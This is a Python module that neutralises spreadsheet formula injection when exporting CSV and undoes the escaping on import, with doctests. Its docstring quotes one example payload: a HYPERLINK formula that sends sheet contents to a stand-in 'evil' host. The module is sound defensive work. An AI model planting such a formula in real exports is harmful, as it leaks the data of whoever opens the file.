"""Spreadsheet formula injection (OWASP "CSV injection"): neutralise on export, undo on import.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab
or carriage return) as a formula: a name such as ``=HYPERLINK("http://evil/?"&A1)`` would
leak the sheet when a council member opens our CSV in Excel. Export puts an apostrophe in
front of such a cell, which spreadsheets show as text; import removes exactly that
apostrophe again, so an export read back gives the very same values.

The escaping is a bijection: a value that already begins with apostrophes and then one of
those characters (or with two apostrophes) gets one more, so no value is ever read back
shorter than it was written.

>>> escape_formula("=1+2"), escape_formula("-"), escape_formula("'t Hooft"), escape_formula("'=x")
("'=1+2", "'-", "'t Hooft", "''=x")
>>> all(unescape_formula(escape_formula(v)) == v for v in ["=1", "'=1", "''", "'", "a", "", "''a"])
True
"""

from __future__ import annotations

__all__ = ["FORMULA_STARTS", "escape_formula", "unescape_formula"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_GUARDED = frozenset(("'", *FORMULA_STARTS))  # what may follow an apostrophe that export added


def unescape_formula(cell: str) -> str:
    """The value a CSV cell holds: one leading apostrophe that guards a formula is dropped."""
    if cell[:1] == "'" and cell[1:2] in _GUARDED:
        return cell[1:]
    return cell


def escape_formula(value: str) -> str:
    """The cell to write for ``value``: an apostrophe in front when a spreadsheet could run it."""
    if value[:1] in FORMULA_STARTS or unescape_formula(value) != value:
        return "'" + value
    return value
